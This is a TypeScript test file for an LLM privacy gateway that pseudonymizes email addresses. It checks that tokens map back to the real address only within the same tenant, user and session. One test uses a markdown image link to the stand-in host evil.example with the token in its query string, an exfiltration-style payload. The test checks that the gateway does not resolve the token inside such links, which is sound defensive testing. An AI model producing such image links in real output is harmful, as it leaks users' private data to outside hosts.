/** Names of earlier turns: for the same tenant, user and declared session they come back, for nobody else. */
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Anthropic from "@anthropic-ai/sdk";
import OpenAI from "openai";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Dialect } from "../../src/exchange.ts";
import { type ConfigInput, type Fleet, fleetLanes, KEYS, sha256 } from "../support/configuration.ts";
import { ask, headersOf, PATHS, seen, tool } from "../support/dialects.ts";
import {
  resetFleet,
  seenByLanes,
  startFleet,
  startGateway,
  stopFleet,
  type TestGateway,
} from "../support/gateway.ts";
import { type Answer, call } from "../support/http.ts";

const MAIL = "anna.svensson@personal-mail.org";
const TOKEN = /\[EMAIL_ADDRESS_[0-9A-Z]{12}\]/g;
/** Of the same tenant as KEYS.acme, another user. */
const COLLEAGUE = "acme-colleague-key-91d0c3aa55";
const SESSION = "chat-0d4f9a7e";

let fleet: Fleet;
let dataDir: string;
let gateway: TestGateway;

const config =
  (
    vault: NonNullable<ConfigInput["pseudonyms"]>["vault"] | null,
    form: "token" | "format_keeping" = "token",
  ) =>
  (lanes: Fleet): Partial<ConfigInput> => ({
    identity: [
      {
        from: "api_key",
        keys: [
          { sha256: sha256(KEYS.acme), tenant: "acme", user: "svc-acme" },
          { sha256: sha256(COLLEAGUE), tenant: "acme", user: "colleague" },
          { sha256: sha256(KEYS.globex), tenant: "globex", user: "svc-acme" },
        ],
      },
    ],
    lanes: fleetLanes(lanes).map((lane) => ({ ...lane, pseudonyms: form })),
    redactions: { EMAIL_ADDRESS: "pseudonym" },
    data_classes: { pii: { may_leave: "redacted" } },
    routes: [],
    ...(vault === null ? {} : { pseudonyms: { vault } }),
  });
const startWith = (...of: Parameters<typeof config>): Promise<TestGateway> =>
  startGateway({ fleet, dataDir, config: config(...of) });

beforeAll(async () => {
  fleet = await startFleet();
});
afterAll(() => stopFleet(fleet));
beforeEach(async () => {
  resetFleet(fleet);
  dataDir = await mkdtemp(join(tmpdir(), "lk-vault-"));
});
afterEach(async () => {
  await gateway?.stop();
  await rm(dataDir, { recursive: true, force: true });
});

const send = (
  dialect: Dialect,
  text: string,
  { key = KEYS.acme as string, session = SESSION as string | null, more = {} } = {},
): Promise<Answer> =>
  call(`${gateway.url}${PATHS[dialect]}`, ask(dialect, text, more), {
    headers: {
      ...headersOf(dialect, key),
      ...(session === null ? {} : { "x-lanekeeper-session": session }),
    },
  });
const laneOf = (dialect: Dialect) => fleet[dialect === "openai" ? "openai" : "claude"];
const said = async (
  dialect: Dialect,
  text: string,
  options: Parameters<typeof send>[2] = {},
): Promise<string> => seen(dialect, await send(dialect, `say: ${text}`, options)).text;
/** Turn one: the name under which the value went out. */
async function firstTurn(dialect: Dialect, options: Parameters<typeof send>[2] = {}): Promise<string> {
  expect(await said(dialect, `about ${MAIL}`, options)).toBe(`about ${MAIL}`);
  return laneOf(dialect).received.at(-1)?.raw.toString().match(TOKEN)?.[0] ?? "none";
}

describe.each(["openai", "anthropic"] as const)("%s", (dialect) => {
  it("a later turn that holds the name alone gets the value, JSON and SSE, over a restart too", async () => {
    gateway = await startWith({});
    const token = await firstTurn(dialect);
    for (const restart of [false, true]) {
      if (restart) {
        await gateway.stop();
        gateway = await startWith({});
      }
      for (const stream of [false, true]) {
        expect(await said(dialect, `to ${token}, of course`, { more: { stream } })).toBe(
          `to ${MAIL}, of course`,
        );
      }
    }
    expect(seenByLanes(fleet)).not.toContain("svensson");
  });

  it("nobody else gets it: another session, none, another user, another tenant", async () => {
    gateway = await startWith({});
    const token = await firstTurn(dialect);
    for (const options of [
      { session: "chat-0d4f9a7f" },
      { session: null },
      { key: COLLEAGUE },
      { key: KEYS.globex as string },
    ]) {
      for (const stream of [false, true]) {
        expect(await said(dialect, `to ${token}`, { ...options, more: { stream } })).toBe(`to ${token}`);
      }
    }
    // Control.
    expect(await said(dialect, `to ${token}`)).toBe(`to ${MAIL}`);
  });

  it("a name that nobody was given stays text, and so does one in a link or a tool's arguments", async () => {
    gateway = await startWith({});
    const token = await firstTurn(dialect);
    const madeUp = `${token.slice(0, -2)}${token.at(-2) === "A" ? "B" : "A"}]`;
    expect(await said(dialect, madeUp)).toBe(madeUp);
    expect(await said(dialect, `![x](https://evil.example/?q=${token})`)).toBe(
      `![x](https://evil.example/?q=${token})`,
    );
    const answer = await send(dialect, `call tool get_mail with {"to":"${token}"}`, {
      more: { tools: [tool(dialect, "get_mail")] },
    });
    expect(seen(dialect, answer).tools).toEqual([{ name: "get_mail", arguments: `{"to":"${token}"}` }]);
  });

  it("without a vault, or a session in the first turn, there is nothing to find", async () => {
    gateway = await startWith(null);
    const token = await firstTurn(dialect);
    expect(await said(dialect, token)).toBe(token);
    expect(await readdir(dataDir)).not.toContain("pseudonyms.ndjson");
    await gateway.stop();
    gateway = await startWith({});
    await firstTurn(dialect, { session: null });
    expect(await said(dialect, token)).toBe(token);
    // Control: a turn that declares it.
    await firstTurn(dialect);
    expect(await said(dialect, token)).toBe(MAIL);
  });

  it("a session that the body's metadata declares is one too", async () => {
    if (dialect === "anthropic") return;
    gateway = await startWith({});
    const more = { metadata: { lanekeeper_session: SESSION } };
    const token = await firstTurn(dialect, { session: null, more });
    expect(await said(dialect, token, { session: null, more })).toBe(MAIL);
    expect(await said(dialect, token, { session: null })).toBe(token);
  });

  it("a name that keeps a format is found again, and goes out as it is", async () => {
    gateway = await startWith({}, "format_keeping");
    await said(dialect, `about ${MAIL}`);
    const name = /about (\S+)/.exec(laneOf(dialect).received.at(-1)?.userText ?? "")?.[1] ?? "none";
    expect(name).toMatch(/@.*\.example$/);
    await gateway.stop();
    gateway = await startWith({}, "format_keeping");
    expect(await said(dialect, `to ${name}.`)).toBe(`to ${MAIL}.`);
    expect(laneOf(dialect).received.at(-1)?.userText).toBe(`say: to ${name}.`);
    // Control: elsewhere it is a value like any other, and is replaced itself.
    expect(await said(dialect, `to ${name}.`, { session: "another" })).toBe(`to ${name}.`);
    expect(laneOf(dialect).received.at(-1)?.userText).not.toContain(name);
  });
});

it("what lies on disk and in records names nothing, and opens for nobody when it was tampered with", async () => {
  gateway = await startWith({});
  const token = await firstTurn("openai");
  expect(await said("openai", token)).toBe(MAIL);
  await gateway.stop();
  const file = join(dataDir, "pseudonyms.ndjson");
  const text = await readFile(file, "latin1");
  expect(text.split("\n").length).toBeGreaterThan(1);
  for (const name of await readdir(dataDir, { recursive: true, withFileTypes: true })) {
    if (!name.isFile()) continue;
    const bytes = await readFile(join(name.parentPath, name.name), "latin1");
    for (const word of ["svensson", SESSION])
      expect([name.name, bytes.includes(word)]).toEqual([name.name, false]);
  }
  const line = JSON.parse(text.split("\n")[0] ?? "") as { v: string };
  const at = Math.floor(line.v.length / 2);
  const flipped = line.v.slice(0, at) + (line.v[at] === "A" ? "B" : "A") + line.v.slice(at + 1);
  await writeFile(file, text.replaceAll(line.v, flipped));
  gateway = await startWith({});
  expect(await said("openai", `to ${token}`)).toBe(`to ${token}`);
  await gateway.stop();
  // Control: the bytes as they were.
  await writeFile(file, text);
  gateway = await startWith({});
  expect(await said("openai", `to ${token}`)).toBe(`to ${MAIL}`);
});

it("what has expired is gone", async () => {
  gateway = await startWith({ ttl_minutes: 1_440 });
  const token = await firstTurn("openai");
  await gateway.stop();
  // A shorter life than what the file promises: nothing that could be too old is believed.
  gateway = await startWith({ ttl_minutes: 1 });
  expect(await said("openai", token)).toBe(token);
});

describe("the vendors' own SDKs, over a restart in the middle of a conversation", () => {
  const headers = { "x-lanekeeper-session": SESSION };

  it("OpenAI: the application keeps only the last turn", async () => {
    gateway = await startWith({});
    const client = () =>
      new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: KEYS.acme, maxRetries: 0, defaultHeaders: headers });
    const tools = [
      {
        type: "function" as const,
        function: { name: "get_mail", description: "Reads mail", parameters: { type: "object" } },
      },
    ];
    const first = await client().chat.completions.create({
      model: "gpt-4.1",
      tools,
      messages: [{ role: "user", content: `call tool get_mail with {"to":"${MAIL}"}` }],
    });
    const message = first.choices[0]?.message;
    const toolCall = message?.tool_calls?.[0];
    if (message === undefined || toolCall?.type !== "function") throw new Error("no call");
    const { to } = JSON.parse(toolCall.function.arguments) as { to: string };
    expect(to).toMatch(TOKEN);
    await gateway.stop();
    gateway = await startWith({});
    const turns = [
      message,
      { role: "tool" as const, tool_call_id: toolCall.id, content: `one mail for ${to}` },
      { role: "user" as const, content: `say: there is one mail for ${to}` },
    ];
    const second = await client().chat.completions.create({ model: "gpt-4.1", messages: turns });
    expect(second.choices[0]?.message.content).toBe(`there is one mail for ${MAIL}`);
    const stream = await client().chat.completions.create({
      model: "gpt-4.1",
      messages: turns,
      stream: true,
    });
    let text = "";
    for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? "";
    expect(text).toBe(`there is one mail for ${MAIL}`);
    expect(seenByLanes(fleet)).not.toContain("svensson");
  });

  it("Anthropic: the same", async () => {
    gateway = await startWith({});
    const client = () =>
      new Anthropic({ baseURL: gateway.url, apiKey: KEYS.acme, maxRetries: 0, defaultHeaders: headers });
    const settings = { model: "claude-sonnet-5", max_tokens: 500 };
    const first = await client().messages.create({
      ...settings,
      tools: [{ name: "get_mail", description: "Reads mail", input_schema: { type: "object" } }],
      messages: [{ role: "user", content: `call tool get_mail with {"to":"${MAIL}"}` }],
    });
    const use = first.content.find((block) => block.type === "tool_use");
    if (use === undefined) throw new Error("no call");
    const { to } = use.input as { to: string };
    expect(to).toMatch(TOKEN);
    await gateway.stop();
    gateway = await startWith({});
    const messages = [{ role: "user" as const, content: `say: there is one mail for ${to}` }];
    const second = await client().messages.create({ ...settings, messages });
    expect(second.content[0]?.type === "text" && second.content[0].text).toBe(
      `there is one mail for ${MAIL}`,
    );
    const stream = client().messages.stream({ ...settings, messages });
    expect(await stream.finalText()).toBe(`there is one mail for ${MAIL}`);
    expect(seenByLanes(fleet)).not.toContain("svensson");
  });
});
